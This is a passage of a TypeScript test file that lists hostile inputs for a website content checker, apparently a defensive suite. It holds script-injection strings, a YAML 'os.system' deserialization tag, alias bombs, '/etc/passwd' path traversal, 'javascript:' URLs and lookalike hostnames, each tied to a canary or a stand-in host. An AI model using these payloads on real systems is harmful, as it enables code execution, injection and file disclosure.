    beginning("set-in-by-no-break-spaces", `\u00a0\u00a0\u00a0\u00a0${harm}\n`, "no-code"),
    beginning("set-in-by-wide-spaces", `\u3000\u3000${harm}\n`, "no-code"),
    beginning("set-in-by-a-form-feed", `\f    ${harm}\n`, "plain-text"),
    inertBeginning("set-in-later", `One.\n\n    ${harm}\n`),
  ],
};

/** Rules and fences at the beginning that another reader takes for front matter. */
const secondFront: Family = {
  name: "Texts that look like front matter",
  inputs: [
    inertBeginning("rule-first", "---\n\nFirst.\n\n---\n\nSecond.\n"),
    inertBeginning("rule-first-below-a-line", "\n---\n\nFirst.\n\n***\n\nSecond.\n"),
    inertBeginning("plus-signs-first", "+++\nFirst.\n+++\n\nSecond.\n"),
    inertBeginning("plus-signs-of-toml", "\n+++\na = 1\n+++\n\nSecond.\n"),
    inertBeginning("rule-and-fence", `---\n~~~\n---\n\n${harm}\n\n~~~\n\nWords.\n`),
    inertBeginning("two-rules", "---\n---\n\nWords.\n"),
    inertBeginning("rule-of-stars-first", "***\n\nFirst.\n\n---\n\nSecond.\n"),
    inertBeginning("semicolons-first", ";;;\n{}\n;;;\n\nWords.\n"),
    inertBeginning("comment-of-yaml-first", "---\n\n# a\n\n---\n".replace("# a", "A.")),
    {
      name: "front-matter-in-braces",
      files: {
        [pagePath("front-matter-in-braces")]:
          '---\n{"title": "A page", "summary": "A summary.", "source": "Our\n+++\nplan"}\n---\n\nWords.\n',
      },
      expected: "inert",
    },
  ],
};

/** Marks and paths that the program behind the site has a meaning for. */
const marks: Family = {
  name: "Marks of other programs",
  inputs: [
    ...inertTexts([
      ["image-mark-as-code", '`__ASTRO_IMAGE_="x"` is a word.'],
      ["image-mark-in-a-block", '~~~\n__ASTRO_IMAGE_="{&quot;src&quot;:&quot;x&quot;}"\n~~~'],
      ["image-mark-in-words", "The mark \\_\\_ASTRO_IMAGE_=&quot;x&quot; stands here."],
      ["marks-of-templates", "`{{ x }}` and `{% x %}` and `<%= x %>` and `${x}`"],
      ["mark-of-a-virtual-module", "`\\0virtual:x` and `@id/astro:content` and `import.meta.env`"],
      ["end-of-a-script-as-code", "`</script><script>canary()</script>`"],
      ["end-of-character-data", "`]]>` and ]]&gt;"],
      ["marks-of-the-index", "`data-pagefind-ignore` and `data-pagefind-body=all`"],
    ]),
    ...[
      [
        "image-mark-in-a-title",
        "title: __ASTRO_IMAGE_./evil.mjs?.svg\nsummary: A summary.\nsource: Our plan",
        2,
      ],
      ["image-mark-in-a-summary", "title: A page\nsummary: ' __ASTRO_IMAGE_./evil.mjs'\nsource: Our plan", 3],
      ["image-mark-in-a-source", 'title: A page\nsummary: A summary.\nsource: "\\x5f_ASTRO_IMAGE_x.svg"', 4],
    ].map(([name, yaml, line]) =>
      refusedFile(
        "no-code",
        String(name),
        pagePath(String(name)),
        `---\n${yaml}\n---\n\nWords.\n`,
        Number(line),
      ),
    ),
  ],
};

/** Addresses of pictures that lead to a file which no check has looked at, or to none. */
const addressesOfPictures: Family = {
  name: "Addresses of pictures that name something else",
  inputs: refusedTexts("images", [
    ["picture-of-a-hidden-file", "![Water](.pond.svg)"],
    ["picture-of-a-program", "![Water](pond.mjs)"],
    ["picture-of-a-program-with-a-query", "![Water](.pond.mjs?.svg)"],
    ["picture-with-a-query", "![Water](pond.svg?raw)"],
    ["picture-with-an-anchor", "![Water](pond.svg#a)"],
    ["picture-with-an-encoded-slash", "![Water](sub%2Fpond.svg)"],
    ["picture-with-an-encoded-backslash", "![Water](sub%5Cpond.svg)"],
    ["picture-with-encoded-dots", "![Water](%2e%2e/%2e%2e/public/favicon.svg)"],
    ["picture-outside", "![Water](../../public/favicon.svg)"],
    ["picture-of-the-repository", "![Water](../../package.svg)"],
    ["picture-by-the-bundler", "![Water](/@fs/etc/passwd.svg)"],
    ["picture-in-a-package", "![Water](/node_modules/astro/x.svg)"],
    ["picture-with-a-null", "![Water](pond.svg%00.png)"],
  ]),
};

/** Headings whose ids would be those of a page’s own parts, or names that scripts use. */
const ids: Family = {
  name: "Headings with the names of other things",
  inputs: [
    ...inertTexts(
      "Commitments Search Location Attributes Reported Changes Maincontent Constructor Body Cookie"
        .split(" ")
        .map(
          (word) =>
            [`heading-named-${word.toLowerCase()}`, `## ${word}\n\nWords.\n\n## ${word}\n\nWords.`] as const,
        ),
    ),
    ...inertTexts([
      ["heading-proto", "## \\_\\_proto\\_\\_\n\nWords."],
      ["heading-of-a-note", "## Footnote label\n\nWords.[^1]\n\n[^1]: A note."],
      ["heading-of-a-part", "## Page-commitments\n\nWords."],
    ]),
  ],
};

/** Names in front matter that a page has for parts of its own. */
const names: Family = {
  name: "Ids with the names of other things",
  inputs: [
    ...[
      "search",
      "search-field",
      "toggle-menu",
      "maincontent",
      "commitments",
      "reported",
      "location",
      "constructor",
    ].map((id, at): Input => ({
      name: `section-named-${id}`,
      files: update(`2025-11-${10 + at}`, "better-care", "md", [
        { id, heading: "Rooms", text: `Words.\n\n### ${id}\n\nWords.\n\n### Search field\n\nWords.` },
      ]),
      expected: "inert",
    })),
    ...["search", "search-field", "toggle-menu"].map((id): Input => ({
      name: `term-named-${id}`,
      data: { "glossary.yaml": { [id]: { term: `Named ${id}`, meaning: "A thing." } } },
      expected: "inert",
    })),
    ...inertTexts([
      ["heading-named-as-the-field", "## Search field\n\nWords.\n\n## Toggle menu\n\nWords."],
      ["headings-of-signs", "## !!!\n\nWords.\n\n## !?!\n\nWords.\n\n## Section\n\nWords."],
    ]),
    ...refusedTexts("headings", [
      ["heading-of-nothing", "##\n\nWords."],
      ["heading-of-nothing-with-signs", "## ##\n\nWords."],
    ]),
    ...refusedTexts("shown-nowhere", [
      ["note-named-as-the-second", "A[^1] b[^1-2] c[^1].\n\n[^1]: A note.\n\n[^1-2]: Another.", 5],
    ]),
  ],
};

/** Files that no reader is to see, and names that a system can’t hold. */
const files: Family = {
  name: "Hidden files and names of systems",
  inputs: [
    ["strategy/.hidden.md", pageOf("Words.")],
    ["strategy/.pond.mjs", "globalThis.canary();\n"],
    ["strategy/.evil.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>canary()</script></svg>\n'],
    [".gitattributes", "* text=auto\n"],
    [".gitmodules", '[submodule "a"]\n'],
    [".htaccess", "Options +Indexes\n"],
    [".env", "SECRET=1\n"],
    [".npmrc", "ignore-scripts=false\n"],
    ["strategy/..a.md", pageOf("Words.")],
  ]
    .map(([path = "", text = ""], at) => refusedFile("file-place", `hidden-file-${at}`, path, text))
    .concat({
      name: "folder-that-is-hidden",
      files: { ".hidden/strategy/a.md": pageOf("Words.") },
      expected: { rule: "file-place", path: ".hidden", line: 1 },
    })
    .concat(
      ["con.md", "aux.md", "nul.mdx", "com1.md", "lpt9.md"].map((name) =>
        refusedFile("file-name", `device-${name.replace(".", "-")}`, `strategy/${name}`, pageOf("Words.")),
      ),
    ),
};

const readings: readonly Family[] = [
  figures,
  setIn,
  secondFront,
  marks,
  addressesOfPictures,
  ids,
  names,
  files,
];

const wide = 4900;

/** Small files that would become pages, or work, of any size. */
const sizes: Family = {
  name: "Small files that grow",
  inputs: [
    ...refusedTexts("tables", [
      ["table-of-missing-cells", `${"|a".repeat(wide)}|\n${"|-".repeat(wide)}|\n${"|a|\n".repeat(40_000)}`],
      [
        "narrow-table-of-missing-cells",
        `${"|a".repeat(30)}|\n${"|-".repeat(30)}|\n${"|a|\n".repeat(40_000)}`,
        3,
      ],
    ]),
    ...refusedTexts("plain-text", [["text-of-braces", `${"{".repeat(6000)}\n`.repeat(30)]], "mdx"),
    ...refusedTexts("headings", [["thousands-of-headings-without-words", "##\n".repeat(60_000)]]),
    refusedFile(
      "section-headings",
      "thousands-of-other-headings",
      "updates/2025-10-01-better-care.md",
      `---\ntitle: An update\nprogramme: better-care\npublished: 2025-10-01\nsummary: News.\nsections:\n${Array.from(
        { length: 2500 },
        (_, at) => `  - { id: s${at}, heading: Given ${at} }\n`,
      ).join("")}---\n\n${Array.from({ length: 5000 }, (_, at) => `## Written ${at}\n\nx\n`).join("\n")}`,
      7,
    ),
    refusedFile(
      "schema",
      "plan-of-ten-thousand-years",
      "plans/2090-91/index.md",
      "---\ntitle: A plan\nperiod: 0000 to 9999\nsummary: A summary.\nsource: Our plan\n---\n\nWords.\n",
      3,
    ),
  ],
};

const list = (name: string, yaml: string, line = 1, rule = "yaml-syntax"): Input =>
  refusedFile(rule, name, "words-to-avoid.yaml", yaml, line);

const yamlFront = (rule: string, name: string, yaml: string, line: number, extension = "md"): Input =>
  refusedFile(
    rule,
    name,
    pagePath(name, extension),
    `---\ntitle: A page\nsummary: A summary.\nsource: Our plan\n${yaml}\n---\n\nWords.\n`,
    line,
  );

const doubled = Array.from({ length: 40 }, (_, step) => `a${step + 1}: &a${step + 1} [*a${step}, *a${step}]`);

/** YAML that grows, makes objects, or means something else to Astro than to the check. */
const yaml: Family = {
  name: "YAML",
  inputs: [
    list("bomb", `a0: &a0 [x, x]\n${doubled.join("\n")}\n`),
    list("alias", "utilise: &a { use: use }\nleverage: *a\n"),
    list("alias-to-itself", "utilise: &a { use: *a }\n"),
    list("alias-to-nothing", "utilise: { use: *nothing }\n"),
    list("merge-of-alias", "utilise: &a { use: use }\nleverage: { <<: *a }\n"),
    list("tag-function", 'utilise: { use: !!js/function "function () { canary() }" }\n'),
    list("tag-undefined", 'utilise: { use: !!js/undefined "" }\n'),
    list("tag-regexp", "utilise: { use: !!js/regexp /(a+)+$/ }\n"),
    list("tag-python", "utilise: !!python/object/apply:os.system [id]\n"),
    list("tag-binary", "utilise: { use: !!binary PHNjcmlwdD4= }\n"),
    list("tag-set", "utilise: !!set { use }\n"),
    list("tag-date", "utilise: { use: !!timestamp 2022-03-14 }\n"),
    list("tag-text", "utilise: { use: !!str use }\n"),
    list("tag-own", "utilise: !env CANARY_SECRET\n"),
    list("tag-of-an-address", "utilise: !<tag:canary.example,2002:a> x\n"),
    list("directive-version", "%YAML 1.1\n---\nutilise: { use: use }\n"),
    list("two-documents", "utilise: { use: use }\n---\nleverage: { use: use }\n", 2),
    list("key-of-keys", "? { a: b }\n: { use: use }\n"),
    list("key-of-alias", "utilise: &a { use: use }\n? *a\n: { use: use }\n"),
    list("nested-ten-thousand-deep", `utilise: ${"[".repeat(9000)}\n`),
    list("list-at-the-top", "- utilise\n"),
    list("key-twice", "utilise: { use: use }\nutilise: { use: use }\n", 2),
    list("merge-of-values", "utilise: { <<: { use: use } }\n", 1, "schema"),
    yamlFront("schema", "layout-of-astro", "layout: ../../../src/layouts/Page.astro", 5),
    yamlFront("schema", "layout-of-astro-in-mdx", "layout: /etc/passwd", 5, "mdx"),
    yamlFront("schema", "slug-of-astro", "slug: ../../index", 5),
    yamlFront("schema", "merge-in-front-matter", "<<: { draft: true }", 5),
    yamlFront("schema", "number-without-end", "order: .inf", 5),
    yamlFront("schema", "number-that-is-none", "order: .nan", 5),
    yamlFront("schema", "text-as-flag", "draft: 'no'", 5),
    yamlFront("schema", "date-that-rolls-over", "published: 2026-02-30", 5),
    yamlFront("yaml-syntax", "tag-in-front-matter", "order: !!js/eval canary()", 5),
    yamlFront("schema", "other-front-matter-ends-here", "+++: x", 5, "mdx"),
    yamlFront(
      "yaml-syntax",
      "text-that-ends-front-matter",
      'owner: "a\n+++\n\nexport const a = 1\n"',
      5,
      "mdx",
    ),
    refusedFile(
      "yaml-syntax",
      "front-matter-of-toml",
      pagePath("front-matter-of-toml", "mdx"),
      '+++\ntitle = "A"\n+++\n\nWords.\n',
    ),
    refusedFile(
      "yaml-syntax",
      "front-matter-of-javascript",
      pagePath("front-matter-of-javascript"),
      "---js\n{ title: process.env.CANARY_SECRET }\n---\n",
    ),
    refusedFile(
      "yaml-syntax",
      "front-matter-after-a-line",
      pagePath("front-matter-after-a-line"),
      "\n---\ntitle: A page\n---\n",
    ),
    refusedFile(
      "yaml-syntax",
      "front-matter-never-closed",
      pagePath("front-matter-never-closed"),
      "---\ntitle: A page\n\nWords.\n",
      4,
    ),
    refusedFile(
      "yaml-syntax",
      "front-matter-closed-with-more",
      pagePath("front-matter-closed-with-more"),
      "---\ntitle: A page\n--- <script>canary()</script>\n",
      3,
    ),
    {
      name: "directive-tag",
      files: { "words-to-avoid.yaml": "%TAG ! tag:canary.example,2002:\n---\nutilise: { use: use }\n" },
      expected: "inert",
    },
  ],
};

const ownPage = "---\ntitle: A page of our own\nsummary: Who we are.\n---\n\nWords.\n";

/** A page with a line of front matter about its language or its other formats. */
const withFiles = (name: string, yaml: string, rule: string): Input =>
  refusedFile(rule, name, pagePath(name), pageOf("Words.", "A page", `${yaml}\n`), 5);

const notePage = (name: string, text: string): Input => ({
  name,
  files: { [pagePath(name)]: pageOf(text) },
  expected: "inert",
});

/** Languages, other formats, footnotes, tags and pages that would be, or have the names of, something else. */
const formats: Family = {
  name: "Formats, notes, tags and pages of its own",
  inputs: [
    ...[
      '"cy\\"><script>canary()</script>"',
      "zh-Hans-Hant",
      "de-1901-1901",
      "en-a",
      "xx",
      "en-u-nu-latn",
    ].map((code, at) => withFiles(`language-${at}`, `lang: ${code}`, "schema")),
    ...["javascript:canary()", "data:text/html,x", "//canary.example/", "blob:https://canary.example/x"].map(
      (address, at) =>
        withFiles(`format-${at}`, `alternates: [{ title: Easy Read, href: "${address}" }]`, "schema"),
    ),
    withFiles(
      "format-of-a-name",
      'alternates: [{ title: Easy Read, href: "https://trust.example@canary.example/" }]',
      "link-hosts",
    ),
    withFiles(
      "format-of-other-letters",
      'alternates: [{ title: Easy Read, href: "https://trust.ex\u0430mple/" }]',
      "link-hosts",
    ),
    withFiles(
      "format-of-another-host",
      `alternates: [{ title: www.trust.example, href: "${elsewhere}/" }]`,
      "link-hosts",
    ),
    notePage(
      "notes-of-page-names",
      "A.[^Page-reported] B.[^main-content] C.[^toString] D.[^constructor]\n\n[^Page-reported]: a\n\n[^main-content]: b\n\n[^toString]: c\n\n[^constructor]: d",
    ),
    notePage("notes-within-notes", "A.[^a]\n\n[^a]: b.[^b]\n\n[^b]: c.[^a]"),
    notePage("note-of-itself", "A.[^a]\n\n[^a]: b.[^a]"),
    notePage("notes-in-a-table", "| a[^a] | b |\n| --- | --- |\n| c[^a] | d[^a] |\n\n[^a]: e"),
    notePage(
      "notes-in-a-chain",
      `A.[^n0]\n\n${Array.from({ length: 500 }, (_, at) => `[^n${at}]: N.[^n${at + 1}]`).join("\n\n")}\n\n[^n500]: End.`,
    ),
    {
      name: "tags-of-objects",
      data: {
        "site.yaml": {
          tags: ["constructor", "index", "feed", "search", "prototype"].map((id) => ({
            id,
            title: `${id}</title><script>${call}</script>`,
            about: `<img src=x onerror=${call}>`,
          })),
        },
      },
      files: {
        "updates/2025-01-09-tags.md":
          "---\ntitle: Tags\npublished: 2025-01-09\nsummary: What tags do.\ntags: [constructor, index, feed, search, prototype]\n---\n\nWords.\n",
      },
      expected: "inert",
    },
    ...["feeds", "attachments", "tags", "index", "pagefind"].map((id) =>
      refusedFile("unique", `page-at-${id}`, `pages/${id}.md`, ownPage),
    ),
    ...["_astro", "g\u043Eals", "%2e%2e"].map((id, at) =>
      refusedFile("file-name", `page-named-${at}`, `pages/${id}.md`, ownPage),
    ),
    ...["constructor", "feed", "sitemap", "favicon", "logo"].map((id): Input => ({
      name: `page-called-${id}`,
      files: { [`pages/${id}.md`]: ownPage },
      expected: "inert",
    })),
  ],
};

/** Every hostile input, by family. */
export const families: readonly Family[] = [
  html,
  addresses,
  mdx,
  yaml,
  objects,
  paths,
  pictures,
  attachments,
  sizes,
  links,
  characters,
  fields,
  formats,
  ...readings,
];
